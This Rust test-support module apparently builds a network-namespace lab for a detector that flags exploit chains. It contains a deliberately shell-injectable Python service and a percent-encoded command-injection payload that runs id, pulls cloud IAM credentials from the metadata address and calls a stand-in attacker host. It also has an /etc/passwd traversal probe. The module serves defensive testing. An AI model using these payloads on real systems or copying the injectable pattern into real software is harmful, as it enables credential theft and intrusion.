//! A site of two namespaces: nginx before a vulnerable service in the second, and the
//! outside, a stand-in metadata service and the attacker in the first.

use std::cell::Cell;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::thread;
use std::time::Duration;

use serde_json::Value;

use crate::common::Dir;
use crate::lab::Lab;
use crate::support::netns::{LinkOptions, Running, wait_for};
use crate::support::program::copy_program;
use crate::watched::{Server, children, serve};

/// An address outside of all home networks.
pub(crate) const OUTSIDE: &str = "203.0.113.9";
const METADATA: &str = "169.254.169.254";

/// The exploit: the name of a host with commands behind it, percent-encoded.
pub(crate) const EXPLOIT: &str = "/lookup?name=x%3Bid%3Bcurl%20-s%20http://169.254.169.254/latest/\
     meta-data/iam/security-credentials/%3Bcurl%20-s%20http://203.0.113.9/stage";
/// Looks like one, and nothing comes of it.
pub(crate) const PROBE: &str = "/hello?file=../../../../etc/passwd";
/// What starts a shell by itself.
pub(crate) const SHELL: &str = "/lookup?name=shop";
/// What reaches a new address by itself.
pub(crate) const EGRESS: &str = "/fetch";

/// A service that passes on what it is sent to a shell. By its script's name it is
/// gunicorn, as gunicorn itself is.
const SERVICE: &str = r#"#!/usr/bin/python3
import http.server, subprocess, urllib.parse, urllib.request
class Service(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        parts = urllib.parse.urlsplit(self.path)
        if parts.path == '/lookup':
            name = urllib.parse.parse_qs(parts.query)['name'][0]
            body = subprocess.run('sleep 0.5; echo ' + name, shell=True, capture_output=True).stdout
        elif parts.path == '/fetch':
            body = urllib.request.urlopen('http://203.0.113.9/stage').read()
        else:
            body = b'hello\n'
        self.send_response(200)
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *words):
        pass
http.server.ThreadingHTTPServer(('127.0.0.1', 8000), Service).serve_forever()
"#;

/// Answers everything, and not at once: watchers of sockets need a moment.
const ELSEWHERE: &str = r#"
import http.server, time
class Elsewhere(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        time.sleep(0.5)
        self.send_response(200)
        self.send_header('Content-Length', '3')
        self.end_headers()
        self.wfile.write(b'ok\n')
    def log_message(self, *words):
        pass
http.server.ThreadingHTTPServer(('0.0.0.0', 80), Elsewhere).serve_forever()
"#;

/// Watchers of a host see what all tests start.
static ALONE: Mutex<()> = Mutex::new(());

pub(crate) struct Site {
    lab: Lab,
    log: PathBuf,
    runs: Cell<usize>,
    _service: Running,
    _elsewhere: Running,
    _nginx: Server,
    _alone: MutexGuard<'static, ()>,
}

/// What a live run told and left.
pub(crate) struct Run {
    pub(crate) summary: Value,
    /// Nothing was late or lost.
    pub(crate) is_whole: bool,
    /// Name of the host that was watched.
    pub(crate) host: String,
    ring: PathBuf,
    map: PathBuf,
}

impl Run {
    pub(crate) fn ring(&self) -> &str {
        self.ring.to_str().unwrap()
    }

    pub(crate) fn map(&self) -> &str {
        self.map.to_str().unwrap()
    }
}

impl Site {
    pub(crate) fn or_skip(test: &str) -> Option<Self> {
        let alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
        let programs = ["nginx", "python3", "curl", "sh"];
        let lab = Lab::or_skip(test, &programs, LinkOptions::default())?;
        let [outer, inner] = &lab.link.names;
        for address in [OUTSIDE, METADATA] {
            let with_length = format!("{address}/32");
            lab.net.run(0, ["ip", "address", "add", &with_length, "dev", outer]);
            lab.net.run(1, ["ip", "route", "add", &with_length, "dev", inner]);
        }
        let elsewhere = serve(&lab.net, 0, &["python3", "-c", ELSEWHERE], 80);
        let script = lab.dir.path("gunicorn");
        copy_program(lab.dir.write("gunicorn.py", SERVICE.as_bytes()), &script);
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        let service = serve(&lab.net, 1, &["setsid", script.to_str().unwrap()], 8000);
        let log = lab.dir.path("access.log");
        let nginx = nginx(&lab, &log);
        let runs = Cell::new(0);
        Some(Self {
            lab,
            log,
            runs,
            _service: service,
            _elsewhere: elsewhere,
            _nginx: nginx,
            _alone: alone,
        })
    }

    pub(crate) fn dir(&self) -> &Dir {
        &self.lab.dir
    }

    pub(crate) fn log(&self) -> &str {
        self.log.to_str().unwrap()
    }

    /// Asks for these while flowtap watches, and what it says of it.
    pub(crate) fn watch(&self, paths: &[&str]) -> Run {
        let number = self.runs.replace(self.runs.get() + 1);
        let (ring, map) = (format!("ring{number}"), format!("map{number}.jsonl"));
        let (ring, map) = (self.dir().path(&ring), self.dir().path(&map));
        let out = self.dir().path(&format!("out{number}"));
        let text = |path: &PathBuf| path.to_str().unwrap().to_owned();
        let args = [
            "--procs",
            "auto",
            "--procs-record",
            &text(&map),
            "--out",
            &text(&out),
            "--record",
            &text(&ring),
            "--log",
            self.log(),
            "--control",
            "none",
        ];
        let live = self.lab.listen(&args);
        let address = &self.lab.link.ipv4[1];
        for path in paths {
            let url = format!("http://{address}{path}");
            self.lab.net.run(0, ["curl", "-sS", "--path-as-is", "-o", "/dev/null", &url]);
        }
        // The last connections close, and the log is read.
        thread::sleep(Duration::from_secs(3));
        let summary = live.stop();
        let coverage = &summary["coverage"];
        let figures = [&coverage["late_seconds"], &coverage["map"]["refused"]];
        let is_whole = figures.iter().all(|figure| **figure == 0);
        let first = fs::read_to_string(&map).unwrap();
        let first: Value = serde_json::from_str(first.lines().next().unwrap()).unwrap();
        let host = first["host"].as_str().unwrap().to_owned();
        Run { summary, is_whole, host, ring, map }
    }

    /// The exploit as a classic load balancer logs it, hours later.
    pub(crate) fn as_balancer(&self, time: &str) -> String {
        let target = &self.lab.link.ipv4[1];
        format!(
            "{time} shop 198.51.100.7:50412 {target}:80 0.000073 0.001048 0.000057 200 200 0 29 \
             \"GET http://shop.example:80{EXPLOIT} HTTP/1.1\" \"curl/8.5.0\" - -\n"
        )
    }
}

fn nginx(lab: &Lab, log: &std::path::Path) -> Server {
    let configuration = lab.dir.path("nginx.conf");
    let text = format!(
        "user root; worker_processes 1; daemon off; pid {pid}; error_log stderr;
         events {{}}
         http {{ log_format main '$remote_addr - $remote_user [$time_local] \"$request\" '
             '$status $body_bytes_sent \"$http_referer\" \"$http_user_agent\" \
              \"$http_x_forwarded_for\"';
             access_log {log} main;
             server {{ listen {address}:80; location / {{ proxy_pass http://127.0.0.1:8000; }} }} }}",
        pid = lab.dir.path("nginx.pid").display(),
        log = log.display(),
        address = lab.link.ipv4[1],
    );
    fs::write(&configuration, text).unwrap();
    let server = serve(&lab.net, 1, &["nginx", "-c", configuration.to_str().unwrap()], 80);
    let server = Server::of(server);
    wait_for("a worker", || !children(server.pid()).is_empty());
    server
}

/// Alerts about chains.
pub(crate) fn chains(summary: &Value) -> Vec<Value> {
    let alerts = summary["alerts"].as_array().unwrap();
    alerts.iter().filter(|alert| alert["detector"] == "chain").cloned().collect()
}

/// When it happened, as a balancer writes it.
pub(crate) fn time(moment: &Value) -> String {
    moment["time"].as_str().unwrap().to_owned()
}
